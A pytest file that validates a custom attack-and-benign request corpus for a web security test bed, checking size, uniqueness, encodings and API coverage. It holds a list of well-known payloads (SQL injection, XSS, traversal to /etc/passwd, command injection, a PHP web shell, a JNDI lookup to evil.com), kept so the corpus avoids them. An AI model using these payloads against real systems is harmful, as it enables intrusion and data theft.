"""The corpus is what it says: enough, all different, well formed, and whole for the contract."""

import base64
import json
import re
from collections import Counter
from collections.abc import Callable
from urllib.parse import unquote

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from security.corpus.encodings import comments, double_percent, in_base64, mixed_case, percent, unicode_escapes
from security.corpus.load import load_corpus, payload_sets
from security.corpus.model import Aimed, Kind
from target_app.app import document
from tests.target_app.contract.specification import FILE

#: Payloads that stand in every cheat sheet: whoever writes these has copied them, or trained a rule on them.
WELL_KNOWN = (
    "' or '1'='1", "' or 1=1 --", "1' or '1'='1' --", "admin' --", "'; drop table users; --", "1; drop table users",
    "<script>alert(1)</script>", "<script>alert('xss')</script>", "\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg onload=alert(1)>", "javascript:alert(1)",
    "../../../../etc/passwd", "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
    "{{config}}", "; ls", "| ls", "; cat /etc/passwd", "$(whoami)", "`whoami`", "| whoami", "() { :;}; echo vulnerable",
    "*)(uid=*))(|(uid=*", "admin)(&)", '{"$gt": ""}', '{"$ne": 1}', "http://127.0.0.1/", "http://localhost/",
    "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "${jndi:ldap://evil.com/a}",
    "php://filter/convert.base64-encode/resource=index.php", "<?php phpinfo(); ?>", "<?php system($_get['cmd']); ?>",
)  # fmt: skip
KINDS: tuple[Kind, Kind] = ("attack", "benign")


def payloads(kind: Kind) -> list[str]:
    """Every payload of one kind as it stands in the files."""
    return [one.text if isinstance(one, Aimed) else one for group in payload_sets(kind) for one in group.payloads]


def test_there_is_enough_of_both() -> None:
    """At least 400 attacks over 12 classes and 200 benign requests, counted by payload, in all places."""
    assert len(payloads("attack")) >= 400
    assert len({group.category for group in payload_sets("attack")}) >= 12
    assert min(len(group.payloads) for group in payload_sets("attack")) >= 24
    assert len(payloads("benign")) >= 200
    for kind in KINDS:
        places = {case.place for case in load_corpus() if case.kind == kind}
        assert places == {"query", "path", "header", "json_value", "json_key", "multipart"}
    worn = {case.encoding for case in load_corpus() if case.kind == "attack"}
    assert worn == {"plain", "url", "double_url", "unicode", "base64", "mixed_case", "comments"}


def test_nothing_stands_twice() -> None:
    """No payload is there twice, whatever its case and blanks, nor in both kinds; no id and no request is."""
    both = [(kind, re.sub(r"\s+", " ", text).strip().lower()) for kind in KINDS for text in payloads(kind)]
    assert [text for text, count in Counter(text for _, text in both).items() if count > 1] == []
    ids = Counter(case.id for case in load_corpus())
    assert [name for name, count in ids.items() if count > 1] == []
    requests = Counter(case.request for case in load_corpus())
    assert [request for request, count in requests.items() if count > 1] == []


@pytest.mark.parametrize("known", WELL_KNOWN)
def test_no_payload_is_one_of_the_well_known(known: str) -> None:
    """Attacks are of our own writing: what every list has is not here."""
    assert known not in {text.strip().lower() for text in payloads("attack")}


def test_an_id_says_what_the_case_is() -> None:
    """Class, digest of the payload, carrier and encoding, whatever else is in the files."""
    for case in load_corpus():
        category, digest, _, encoding = case.id.split("/")
        assert (category, encoding) == (case.category, case.encoding)
        assert re.fullmatch(r"[0-9a-f]{8}", digest)
    (kept,) = [case for case in load_corpus() if case.id == "sql_injection/9f20c967/tag_query/plain"]
    assert kept.payload == "harbour' OR 7=7 -- keel"


def test_every_request_can_be_sent() -> None:
    """Targets and headers are what HTTP allows; JSON bodies are JSON, and decode to the payload where it is plain."""
    for case in load_corpus():
        assert re.fullmatch(r"/[\x21-\x7e]*", case.request.target), case.id
        for name, value in case.request.headers:
            assert not re.search(r"[\x00-\x1f\x7f]", name + value), case.id
        if case.place in {"json_value", "json_key"}:
            body = json.loads(case.request.body)
            if case.encoding in {"plain", "unicode"} and case.category != "contract":
                assert case.payload in list(strings(body)), case.id


def strings(node: object) -> list[str]:
    """All keys and texts of a JSON document."""
    if isinstance(node, dict):
        return [text for key, value in node.items() for text in (key, *strings(value))]
    if isinstance(node, list):
        return [text for value in node for text in strings(value)]
    return [node] if isinstance(node, str) else []


def test_the_benign_set_holds_every_operation_of_the_contract() -> None:
    """Each operation of Conduit's document, and each of ours beyond it that the set was written for, is asked."""
    asked = {
        (case.request.method, case.request.target.partition("?")[0])
        for case in load_corpus()
        if case.category == "contract"
    }
    paths = yaml.safe_load(FILE.read_text(encoding="utf-8"))["paths"]
    conduit = {(method, f"/api{path}") for path, operations in paths.items() for method in operations}
    ours = {(method, path) for path, operations in document()["paths"].items() for method in operations}
    missing = [operation for operation in conduit | (ours & BEYOND) if not is_asked(operation, asked)]
    assert missing == []


#: Operations beyond Conduit, as the document names them.
BEYOND = {
    ("post", "/api/orders"), ("get", "/api/orders"), ("get", "/api/orders/{id}"), ("post", "/api/orders/{id}/refund"),
    ("post", "/api/coupons"), ("get", "/api/coupons"), ("delete", "/api/coupons/{code}"), ("get", "/api/balance"),
    ("get", "/api/balance/entries"), ("post", "/api/payments/webhook"), ("post", "/api/tickets"),
    ("post", "/api/link-previews"), ("get", "/api/webhooks"), ("post", "/api/webhooks"), ("get", "/api/webhooks/{id}"),
    ("delete", "/api/webhooks/{id}"), ("get", "/api/webhooks/{id}/deliveries"), ("get", "/api/admin/audit"),
    ("get", "/api/admin/audit/verification"), ("put", "/api/admin/users/{id}/role"),
    ("post", "/api/articles/{slug}/reports"), ("post", "/api/articles/{slug}/comments/{id}/reports"),
    ("get", "/api/moderation/reports"), ("get", "/api/moderation/reports/{id}"), ("get", "/api/moderation/users"),
    ("post", "/api/moderation/reports/{id}/decision"), ("get", "/api/moderation/users/{id}"),
    ("put", "/api/moderation/users/{id}/suspension"), ("delete", "/api/moderation/users/{id}/suspension"),
    ("get", "/api/user/articles/export"), ("post", "/api/user/articles/import"), ("delete", "/api/user/avatar"),
    ("get", "/api/avatars/{name}"),
}  # fmt: skip


def is_asked(operation: tuple[str, str], asked: set[tuple[str, str]]) -> bool:
    """Whether one of the requests is of this operation."""
    method, template = operation
    pattern = re.sub(r"\{\w+\}", "[^/]+", template)
    return any(verb == method.upper() and re.fullmatch(pattern, path) for verb, path in asked)


@settings(deadline=None)
@given(st.text())
def test_a_disguise_means_the_same_once_it_is_taken_off(text: str) -> None:
    """What was encoded decodes to itself; case and comments change nothing else."""
    assert unquote(percent(text)) == text
    assert unquote(unquote(double_percent(text))) == text
    assert json.loads(f'"{unicode_escapes(text)}"') == text
    assert base64.b64decode(in_base64(text)).decode() == text
    assert comments(text).replace("/**/", " ") == text.replace("/**/", " ")


@pytest.mark.parametrize(
    ("disguise", "text", "worn"),
    [
        (mixed_case, "select <b>", "sElEcT <b>"),
        (comments, "a or b", "a/**/or/**/b"),
        (percent, "a'", "%61%27"),
        (double_percent, "a'/", "a%2527%252F"),
        (unicode_escapes, "é⛵", "\\u00e9\\u26f5"),
    ],
)
def test_disguises_look_as_they_are_called(disguise: Callable[[str], str], text: str, worn: str) -> None:
    """One example of each."""
    assert disguise(text) == worn
